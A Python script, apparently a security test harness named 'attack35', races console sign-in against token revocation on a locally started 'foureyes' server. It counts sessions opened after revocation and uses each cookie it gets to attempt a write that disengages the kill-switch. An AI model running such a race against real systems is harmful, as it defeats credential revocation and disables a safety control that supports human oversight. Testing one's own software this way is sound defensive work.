#!/usr/bin/env python3
# attack35: console sign-in (POST /console/session) racing `token revoke`: session_opened lands after `revoked`;
# then every cookie obtained tries GET /console/session and a kill-switch write. Usage: FOUREYES_BIN=... signin_race.py
import os, subprocess, json, time, re, tempfile, signal, threading, urllib.request, hashlib
B = os.environ.get("FOUREYES_BIN", "/work/attack35/bin/foureyes")
D = tempfile.mkdtemp(prefix="a35s-", dir="/tmp/attack35")
os.environ["FOUREYES_DB"] = D + "/fe.db"; os.environ["FOUREYES_POLICY"] = D + "/policy.yaml"
open(D + "/policy.yaml", "w").write("version: 1\nactions:\n  a.b:\n    tier: 3\n")
def cli(*a): return subprocess.run([B, *a], capture_output=True, text=True, timeout=60)
def mk(name, role): return re.search(r"fe_[0-9a-f]+", cli("token", "create", "--name", name, "--role", role).stdout).group(0)
mk("boot", "admin")
srv = subprocess.Popen([B, "serve", "--listen", "127.0.0.1:0"], stdout=open(D + "/serve.log", "w"), stderr=subprocess.STDOUT)
port = None
for _ in range(100):
    time.sleep(0.1); m = re.search(r"http://127.0.0.1:(\d+)", open(D + "/serve.log").read())
    if m: port = int(m.group(1)); break
def req(method, path, body=None, hdrs={}):
    r = urllib.request.Request(f"http://127.0.0.1:{port}{path}", method=method, data=None if body is None else json.dumps(body).encode(),
                               headers={"Content-Type": "application/json", **hdrs})
    try:
        with urllib.request.urlopen(r, timeout=20) as x: return x.status, {k.lower(): v for k, v in x.headers.items()}, x.read().decode()
    except urllib.error.HTTPError as e: return e.code, dict(e.headers), e.read().decode()
ROUNDS = int(os.environ.get("ROUNDS", "8")); late_rounds = 0; late_sessions = 0; usable = 0; writes = 0; cookies_total = 0
for r in range(ROUNDS):
    nm = f"s{r}"; tok = mk(nm, "admin"); cookies = []
    def go():
        for _ in range(400):
            st, h, b = req("POST", "/console/session", {"token": tok})
            if st != 200: break
            m = re.search(r"fe_session=([^;]+)", h.get("set-cookie", ""))
            if st == 200 and m: cookies.append((m.group(1), json.loads(b)))
    ts = [threading.Thread(target=go) for _ in range(3)]; [t.start() for t in ts]
    time.sleep(0.02 * (r % 4)); cli("token", "revoke", nm); [t.join() for t in ts]
    ev = [json.loads(l) for l in cli("journal", "export", "-").stdout.splitlines() if l.strip()]
    idx = max(i for i, e in enumerate(ev) if e["kind"] == "credential" and e["data"].get("name") == nm and e["data"].get("action") == "revoked")
    late = [e for e in ev[idx + 1:] if e["kind"] == "credential" and e["data"].get("name") == nm and e["data"].get("action") == "session_opened"]
    late_sessions += len(late); late_rounds += bool(late); cookies_total += len(cookies)
    for c, info in cookies:
        csrf = info.get("csrf") or info.get("csrf_token") or ""
        h = {"Cookie": "fe_session=" + c, "X-CSRF-Token": str(csrf), "Origin": f"http://127.0.0.1:{port}"}
        st, _, _ = req("GET", "/console/session", None, h); usable += st == 200
        st2, _, b2 = req("POST", "/v1/kill-switch", {"engaged": False}, h); writes += st2 == 200
    print(f"round {r}: cookies {len(cookies)}, session_opened after revoked {len(late)}", flush=True)
srv.send_signal(signal.SIGTERM); srv.wait(timeout=10)
print("RESULT", f"session_opened after revoked: {late_sessions} in {late_rounds} of {ROUNDS} rounds; cookies {cookies_total}, usable after revoke {usable}, kill-switch writes {writes}"); print("dir", D)
